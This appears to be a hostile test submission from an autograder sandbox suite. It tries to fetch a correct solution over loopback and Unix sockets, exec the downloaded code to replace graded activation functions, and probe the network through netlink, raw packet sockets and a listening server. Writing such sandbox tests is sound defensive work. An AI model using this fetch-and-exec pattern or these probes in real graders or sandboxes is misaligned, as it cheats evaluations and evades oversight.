"""Attack: download a solution over a socket, and probe the network.

The test serves a correct solution on 127.0.0.1 (the port is written over
the placeholder below) and on the abstract unix socket
``\\0fchostile-solution-<port>``; this file connects (IPv4, IPv6 ::1, the
abstract socket), execs what it receives and defines the activations from
it. It also tries AF_NETLINK (an RTM_GETLINK dump: which interfaces can it
see?), AF_PACKET, socketpair and listening on 127.0.0.1 (a server for a
colluding classmate). Network attempts go to the loopback only.

Expected verdict: no points (no connection reaches the test's servers:
they count connections), netlink sees no interface but ``lo`` (or cannot be
opened), AF_PACKET fails; the neighbour keeps full marks.
"""
import os
import socket
import struct

FUNCS = ("sigmoid", "sigmoid_backward", "tanh_backward", "relu_backward", "leaky_relu_backward", "prelu_backward")
PORT = "__FC_PORT__"


def _say(key, value):
    print(f"FCH {key}={value}", flush=True)


def _fetch(family, addr):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2.0)
    try:
        s.connect(addr)
        chunks = []
        while True:
            b = s.recv(65536)
            if not b:
                break
            chunks.append(b)
        return b"".join(chunks).decode("utf-8")
    finally:
        s.close()


def _download():
    try:
        port = int(PORT)
    except ValueError:
        port = 0
    targets = []
    if port:
        targets += [("inet", socket.AF_INET, ("127.0.0.1", port)), ("inet6", socket.AF_INET6, ("::1", port))]
    targets.append(("unix-abstract", socket.AF_UNIX, f"\0fchostile-solution-{port}"))
    got = None
    for name, fam, addr in targets:
        try:
            src = _fetch(fam, addr)
            _say(f"connect_{name}", f"ok {len(src)} bytes")
            got = got or src
        except OSError as e:
            _say(f"connect_{name}", f"failed {e.errno}")
    if got:
        ns = {"__name__": "downloaded"}
        exec(compile(got, "downloaded", "exec"), ns)
        for fn in FUNCS:
            if callable(ns.get(fn)):
                globals()[fn] = ns[fn]


def _netlink_links():
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)  # NETLINK_ROUTE
    s.settimeout(2.0)
    try:
        s.bind((0, 0))
        body = struct.pack("=BxHiII", 0, 0, 0, 0, 0)
        s.send(struct.pack("=IHHII", 16 + len(body), 18, 0x1 | 0x300, 1, 0) + body)  # RTM_GETLINK, REQUEST|DUMP
        names = []
        while True:
            data = s.recv(1 << 16)
            off = 0
            while off + 16 <= len(data):
                ln, typ = struct.unpack_from("=IH", data, off)
                if ln < 16 or typ in (2, 3):  # NLMSG_ERROR, NLMSG_DONE
                    return names
                if typ == 16:  # RTM_NEWLINK
                    a, end = off + 32, off + ln
                    while a + 4 <= end:
                        alen, atype = struct.unpack_from("=HH", data, a)
                        if alen < 4:
                            break
                        if atype == 3:  # IFLA_IFNAME
                            names.append(data[a + 4:a + alen].split(b"\0")[0].decode())
                        a += (alen + 3) & ~3
                off += (ln + 3) & ~3
    finally:
        s.close()


def _probe():
    try:
        _say("netlink_links", ",".join(_netlink_links()) or "(none)")
    except OSError as e:
        _say("netlink_links", f"failed {e.errno}")
    try:
        socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
        _say("af_packet", "ok")
    except (OSError, AttributeError) as e:
        _say("af_packet", f"failed {getattr(e, 'errno', e)}")
    try:
        a, b = socket.socketpair()
        a.close(), b.close()
        _say("socketpair", "ok")
    except OSError as e:
        _say("socketpair", f"failed {e.errno}")
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind(("127.0.0.1", 0))
        s.listen(1)
        _say("listen_inet", "ok")
        s.close()
    except OSError as e:
        _say("listen_inet", f"failed {e.errno}")


_probe()
_download()
